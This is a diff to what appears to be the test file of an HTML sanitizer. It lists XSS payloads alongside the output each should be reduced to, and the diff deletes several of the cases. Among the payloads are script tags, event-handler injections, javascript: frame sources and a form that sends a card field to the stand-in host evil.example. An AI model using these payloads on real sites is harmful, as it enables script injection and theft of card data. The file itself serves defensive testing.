@@ -11,7 +11,6 @@ const attacks: [html: string, left: string][] = [
   ['<SCRIPT>alert(1)</SCRIPT>', ''],
   ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
   ['<object data="x.swf"><p>a</p></object>', '<p>a</p>'],
-  ['<embed src="x.swf">', ''],
   ['<form action="//evil.example"><p>a</p><input name="card"></form>', '<p>a</p>'],
   ['<input autofocus onfocus="alert(1)">', ''],
   // Other tags that run, load, overlay or redirect
@@ -27,10 +26,6 @@ const attacks: [html: string, left: string][] = [
   ['<textarea><img src=x onerror=alert(1)></textarea>', '&lt;img src=x onerror=alert(1)&gt;'],
   ['<select><option>a</option></select>', 'a'],
   ['<video src="x.mp4" autoplay onplay="alert(1)"></video>', ''],
-  ['<audio src="x.mp3" onerror="alert(1)"></audio>', ''],
-  ['<dialog open>a</dialog>', 'a'],
-  ['<marquee onstart="alert(1)">a</marquee>', 'a'],
-  ['<frameset><frame src="javascript:alert(1)"></frameset>', ''],
   ['<table><tr><td>a</td></tr></table>', 'a'],
   ['<details open ontoggle="alert(1)">a</details>', 'a'],
   ['<x-widget onclick="alert(1)">a</x-widget>', 'a'],
